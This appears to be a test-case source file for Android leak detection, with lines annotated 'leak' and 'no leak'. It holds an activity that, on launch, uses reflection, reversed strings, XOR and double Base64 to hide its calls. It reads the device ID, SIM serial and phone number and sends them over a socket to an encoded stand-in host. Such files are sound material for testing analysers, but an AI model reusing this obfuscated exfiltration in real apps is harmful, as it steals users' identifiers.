package trojans;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.util.Base64;
import java.io.OutputStream;
import java.lang.reflect.Constructor;
import java.lang.reflect.Method;
import java.net.Socket;

/** Names that are hidden in several ways, and what they name called by reflection. */
public class Hidden extends Activity {
    private static final byte[] KEY = {7, 21, 3, 44};
    private static final String TELEPHONY = new StringBuilder("reganaMynohpeleT.ynohpelet.diordna").reverse().toString();

    static String open(int[] hidden) {
        char[] text = new char[hidden.length];
        for (int i = 0; i < hidden.length; i++) {
            text[i] = (char) (hidden[i] ^ KEY[i % KEY.length]);
        }
        return new String(text);
    }

    static String twice(String text) {
        return new String(Base64.decode(Base64.decode(text, 0), 0));
    }

    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(new Runnable() {
            public void run() {
                try {
                    go();
                } catch (Exception e) {
                    finish();
                }
            }
        }).start();
    }

    void go() throws Exception {
        Object phone = Context.class.getMethod("getSystemService", String.class).invoke(this, "phone");
        Method read = Class.forName(TELEPHONY).getMethod(twice("WjJWMFJHVjJhV05sU1dRPQ=="));
        String id = (String) read.invoke(phone, new Object[0]);
        Constructor<?> make = Class.forName("java.net.Socket").getConstructor(String.class, int.class);
        Socket line = (Socket) make.newInstance(twice("WXpJdVpYaGhiWEJzWlM1cGJuWmhiR2xr"), 80);
        OutputStream out = line.getOutputStream();
        out.write(id.getBytes()); // leak
        Method other = Class.forName(TELEPHONY).getMethod(open(new int[] {96, 112, 119, 124, 111, 122, 109, 73, 83, 108, 115, 73}));
        out.write(String.valueOf(other.invoke(phone)).getBytes()); // no leak
        Method serial = phone.getClass().getMethod(open(new int[] {96, 112, 119, 127, 110, 120, 80, 73, 117, 124, 98, 64, 73, 96, 110, 78, 98, 103}));
        out.write(((String) serial.invoke(phone)).getBytes()); // leak
        char[] number = {'g', 'e', 't', 'L', 'i', 'n', 'e', '1', 'N', 'u', 'm', 'b', 'e', 'r'};
        String own = (String) Class.forName("android." + "telephony." + "TelephonyManager").getDeclaredMethod(String.valueOf(number)).invoke(phone);
        send(out, own);
        send2(out, (String) Class.forName(TELEPHONY).getMethod("getNetworkOperatorName".replace("Network", "Sim")).invoke(phone));
    }

    private void send(OutputStream out, String text) throws Exception {
        out.getClass().getMethod("write", byte[].class).invoke(out, text.getBytes()); // leak
    }

    private void send2(OutputStream out, String text) throws Exception {
        out.write(text.isEmpty() ? 1 : 0); // no leak
    }
}
